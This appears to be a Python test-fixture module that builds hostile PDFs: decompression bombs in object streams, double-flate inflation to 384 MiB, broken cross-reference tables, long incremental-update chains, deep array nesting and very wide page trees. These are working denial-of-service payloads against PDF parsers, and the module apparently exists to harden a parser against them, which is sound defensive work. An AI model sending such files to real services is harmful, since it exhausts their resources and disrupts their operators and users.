"""Generated hostile PDFs: files built to make a PDF parser spend time and memory without bound.

Each builder returns the bytes of one PDF that passes the cheap byte-level checks (``%PDF-``
header, ``startxref`` and ``%%EOF`` in the tail), so that only a parser can tell it is hostile.
Sizes are chosen to hurt an unbounded parser (pypdf took 64 s and 950 MiB on the object-stream
bomb) while staying under a node's body limit.

- ``objstm_whitespace``: ten object streams, each 64 MiB of whitespace deflated to 64 KiB,
  holding the page objects a reader must resolve to count the pages (the page tree).
- ``objstm_nested_flate``: one object stream compressed twice (``[/FlateDecode /FlateDecode]``):
  a few KiB that inflate to 384 MiB.
- ``broken_xref``: 40 MiB of small objects under a cross-reference table whose offsets and
  ``startxref`` are wrong, so a lenient reader rebuilds the table by scanning every byte.
- ``xref_chain``: 5,000 incremental updates, each with its own cross-reference section chained
  by ``/Prev``.
- ``deep_nesting``: arrays nested 200,000 deep in the catalog.
- ``wide_page_tree``: one ``/Pages`` node with 100,000 kids (all the same page).
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from dataclasses import dataclass

MiB = 1 << 20
_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def _objects(objects: dict[int, bytes]) -> tuple[bytearray, dict[int, int]]:
    out = bytearray(_HEADER)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    return out, offsets


def classic_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """``objects`` (number → body) with a correct classic cross-reference table, trailer,
    startxref and %%EOF: whatever is hostile in the file is in the objects."""
    out, offsets = _objects(objects)
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


@dataclass(frozen=True)
class _ObjStm:
    data: bytes
    filters: bytes
    first: int


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def _page_in_whitespace(page_number: int, padding: int, *, twice: bool = False) -> _ObjStm:
    """An object stream holding one page object behind ``padding`` bytes of whitespace."""
    head = b"%d 0 " % page_number
    compressor = zlib.compressobj(9)
    block = b" " * MiB
    parts = [compressor.compress(block) for _ in range(padding // MiB)]
    parts.append(compressor.compress(head + _PAGE))
    parts.append(compressor.flush())
    data = b"".join(parts)
    if twice:
        return _ObjStm(zlib.compress(data, 9), b"[/FlateDecode /FlateDecode]", padding + len(head))
    return _ObjStm(data, b"/FlateDecode", padding + len(head))


def _with_object_streams(streams: list[_ObjStm]) -> bytes:
    """A catalog and a page tree of ``len(streams)`` pages, page *i* in object stream *i*,
    written with a cross-reference stream (object streams need one)."""
    count = len(streams)
    first_stream = 3
    first_page = first_stream + count
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    }
    for i, stream in enumerate(streams):
        objects[first_stream + i] = _stream(
            stream.data,
            b"/Type /ObjStm /N 1 /First %d /Filter %s" % (stream.first, stream.filters),
        )
    out, offsets = _objects(objects)
    xref_number = first_page + count
    size = xref_number + 1
    xref_at = len(out)
    offsets[xref_number] = xref_at
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, size):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        else:
            stream_number = first_stream + (number - first_page)
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += b"%d 0 obj\n" % xref_number
    out += _stream(table, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % size)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def objstm_whitespace(streams: int = 10, padding: int = 64 * MiB) -> bytes:
    """Object streams of whitespace holding the page objects (the 706 KiB, 64 s pypdf bomb)."""
    return _with_object_streams(
        [_page_in_whitespace(3 + streams + i, padding) for i in range(streams)]
    )


def objstm_nested_flate(padding: int = 384 * MiB) -> bytes:
    """One object stream deflated twice: a few KiB that decode to ``padding`` bytes."""
    return _with_object_streams([_page_in_whitespace(4, padding, twice=True)])


def broken_xref(size: int = 40 * MiB) -> bytes:
    """``size`` bytes of objects under a wrong cross-reference table and a wrong startxref."""
    out = bytearray(_HEADER)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    out += b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    out += b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
    number = 4
    chunk: list[bytes] = []
    while len(out) < size:
        chunk.clear()
        for _ in range(10_000):
            chunk.append(b"%d 0 obj\n<< /K [%d 0 R] >>\nendobj\n" % (number, number - 1))
            number += 1
        out += b"".join(chunk)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % number
    # Wrong offsets, and a table shorter than /Size says: a lenient reader starts over.
    out += b"0000000017 00000 n \n" * 3
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (number, xref // 2)
    return bytes(out)


def xref_chain(updates: int = 5_000) -> bytes:
    """A small document followed by ``updates`` incremental updates chained by ``/Prev``."""
    base = classic_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        }
    )
    out = bytearray(base)
    prev = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    for i in range(updates):
        offset = len(out)
        out += b"4 0 obj\n<< /U %d >>\nendobj\n" % i
        xref = len(out)
        out += b"xref\n4 1\n%010d 00000 n \n" % offset
        out += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            prev,
            xref,
        )
        prev = xref
    return bytes(out)


def deep_nesting(depth: int = 200_000) -> bytes:
    """Arrays nested ``depth`` deep in the catalog (and in the page tree's root)."""
    nested = b"[" * depth + b"]" * depth
    return classic_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /Deep " + nested + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Deep " + nested + b" >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        }
    )


def wide_page_tree(kids: int = 100_000) -> bytes:
    """One page tree node with ``kids`` references to the same page."""
    refs = b"3 0 R " * kids
    return classic_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [" + refs + b"] /Count %d >>" % kids,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        }
    )


BOMBS: dict[str, Callable[[], bytes]] = {
    "objstm-whitespace": objstm_whitespace,
    "objstm-nested-flate": objstm_nested_flate,
    "broken-xref-40mib": broken_xref,
    "xref-chain": xref_chain,
    "deep-nesting": deep_nesting,
    "wide-page-tree": wide_page_tree,
}
